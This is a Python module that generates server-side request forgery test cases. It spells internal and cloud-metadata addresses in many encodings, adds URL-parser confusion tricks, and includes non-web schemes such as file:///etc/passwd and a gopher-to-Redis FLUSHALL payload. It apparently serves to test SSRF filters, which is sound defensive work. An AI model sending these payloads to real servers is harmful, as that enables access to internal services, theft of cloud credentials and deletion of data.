"""Addresses that lead inside, or try to, in every spelling we know: made by rules from a few inner addresses."""

from __future__ import annotations

from collections.abc import Iterator
from ipaddress import IPv4Address, IPv6Address
from urllib.parse import quote

INNER = {
    "loopback": "127.0.0.1",
    "loopback, another": "127.8.9.1",
    "this host": "0.0.0.0",
    "private 10": "10.0.0.7",
    "private 172": "172.20.3.4",
    "private 192": "192.168.1.1",
    "carrier NAT": "100.64.0.9",
    "link local": "169.254.3.3",
    "cloud metadata": "169.254.169.254",
    "Alibaba metadata": "100.100.100.200",
    "benchmark": "198.18.0.1",
    "multicast": "224.0.0.251",
    "broadcast": "255.255.255.255",
    "documentation": "192.0.2.44",
}
INNER_IPV6 = {
    "loopback": "::1",
    "unspecified": "::",
    "unique local": "fd12:3456:789a::1",
    "link local": "fe80::2",
    "site local": "fec0::1",
    "multicast": "ff02::1",
    "documentation": "2001:db8::5",
    "AWS metadata": "fd00:ec2::254",
}
NAMES = (
    "localhost localhost. LocalHost foo.localhost localhost.localdomain ip6-localhost router.local db.internal "
    "metadata.google.internal host.docker.internal.home.arpa kubernetes redis intranet"
).split()
PUBLIC = "example.com"


def spell_ipv4(address: str) -> Iterator[tuple[str, str]]:
    """The address as parsers of different leniency accept it, each with the name of the form."""
    a, b, c, d = IPv4Address(address).packed
    number = int(IPv4Address(address))
    yield "plain", address
    yield "trailing dot", f"{address}."
    yield "two trailing dots", f"{address}.."
    yield "one number", str(number)
    yield "one number in hex", hex(number)
    yield "one number in octal", f"0{number:o}"
    yield "one number, padded", f"00000000000{number:o}"
    yield "two parts", f"{a}.{(b << 16) | (c << 8) | d}"
    yield "three parts", f"{a}.{b}.{(c << 8) | d}"
    yield "octal parts", ".".join(f"0{part:o}" for part in (a, b, c, d))
    yield "padded octal parts", ".".join(f"000{part:o}" for part in (a, b, c, d))
    yield "hex parts", ".".join(hex(part) for part in (a, b, c, d))
    yield "mixed parts", f"{hex(a)}.0{b:o}.{c}.{d}"
    yield "overflowing part", f"{a + 256}.{b}.{c}.{d}"
    yield "overflowing number", str(number + 2**32)
    yield "negative", f"-{number}"
    yield "full-width digits", "".join(chr(0xFF10 + int(s)) if s.isdigit() else s for s in address)
    yield "ideographic dots", address.replace(".", "\u3002")
    yield "half-width dots", address.replace(".", "\uff61")
    yield "mathematical digits", "".join(chr(0x1D7CE + int(s)) if s.isdigit() else s for s in address)
    yield "percent-encoded", "".join(f"%{ord(s):02x}" for s in address)
    yield "percent-encoded dots", address.replace(".", "%2e")
    yield "soft hyphen", f"{address[:2]}\u00ad{address[2:]}"
    yield "zero-width space", f"{address[:2]}\u200b{address[2:]}"


def spell_ipv4_in_ipv6(address: str) -> Iterator[tuple[str, str]]:
    """IPv6 addresses that carry the IPv4 address: mapped, compatible, translated, NAT64, 6to4, Teredo, ISATAP."""
    inner = int(IPv4Address(address))
    forms = {
        "mapped": (0xFFFF << 32) | inner,
        "compatible": inner,
        "translated": (0xFFFF << 48) | inner,
        "NAT64": (0x64FF9B << 96) | inner,
        "local NAT64": (0x64FF9B0001 << 80) | inner,
        "6to4": (0x2002 << 112) | (inner << 80) | 1,
        "Teredo": (0x20010000 << 96) | (0x41D55A5A << 64) | (inner ^ 0xFFFFFFFF),
        "ISATAP": (0x26070000 << 96) | (0x00005EFE << 32) | inner,
    }
    for name, number in forms.items():
        yield name, f"[{IPv6Address(number)}]"
    yield "mapped, dotted", f"[::ffff:{address}]"
    yield "mapped, long", f"[0:0:0:0:0:ffff:{address}]"
    yield "NAT64, dotted", f"[64:ff9b::{address}]"


def dress_host(host: str) -> Iterator[tuple[str, str]]:
    """Addresses that hide a host from one parser or another."""
    yield "path", f"http://{host}/admin"
    yield "port", f"http://{host}:8080/"
    yield "user name that looks public", f"http://{PUBLIC}@{host}/"
    yield "password that looks public", f"http://a:{PUBLIC}@{host}/"
    yield "two at signs", f"http://a@{PUBLIC}@{host}/"
    yield "encoded at sign", f"http://{PUBLIC}%40{host}/"
    yield "backslash before the host", f"http:\\\\{host}\\"
    yield "backslash and at sign", f"http://{host}\\@{PUBLIC}/"
    yield "public host, backslash", f"http://{PUBLIC}\\@{host}/"
    yield "question mark and at sign", f"http://{host}?@{PUBLIC}/"
    yield "hash and at sign", f"http://{host}#@{PUBLIC}/"
    yield "three slashes", f"http:///{host}/"
    yield "no slashes", f"http:{host}/"
    yield "no scheme", f"//{host}/"
    yield "tab in the host", f"http://{host[:3]}\t{host[3:]}/"
    yield "line end in the host", f"http://{host[:3]}\r\n{host[3:]}/"
    yield "NUL behind the host", f"http://{host}\x00.{PUBLIC}/"
    yield "encoded NUL", f"http://{host}%00.{PUBLIC}/"
    yield "encoded line end", f"http://{host}%0d%0a.{PUBLIC}/"
    yield "odd port", f"http://{host}:0/"


def other_schemes() -> Iterator[tuple[str, str]]:
    """Schemes that are not the web's."""
    for (
        scheme
    ) in "file ftp gopher dict ldap tftp sftp jar netdoc data javascript view-source ws blob about".split():
        yield scheme, f"{scheme}://{INNER['loopback']}/"
    yield "file path", "file:///etc/passwd"
    yield "nested", f"view-source:http://{INNER['loopback']}/"
    yield "gopher to redis", f"gopher://{INNER['loopback']}:6379/_{quote('FLUSHALL')}"


def attacks() -> Iterator[tuple[str, str, str]]:
    """Every case as (group, form, address)."""
    for where, address in INNER.items():
        for form, host in (*spell_ipv4(address), *spell_ipv4_in_ipv6(address)):
            yield f"IPv4, {where}", form, f"http://{host}/"
    for where, address in INNER_IPV6.items():
        yield f"IPv6, {where}", "plain", f"http://[{address}]/"
        yield f"IPv6, {where}", "with a zone", f"http://[{address}%25eth0]/"
        yield f"IPv6, {where}", "long", f"http://[{IPv6Address(address).exploded}]/"
        yield f"IPv6, {where}", "without brackets", f"http://{address}/"
    for host in (INNER["loopback"], INNER["cloud metadata"], "localhost"):
        yield from ((f"dressed, {host}", form, url) for form, url in dress_host(host))
    yield from (("names", name, f"https://{name}/") for name in NAMES)
    yield from (("schemes", form, url) for form, url in other_schemes())
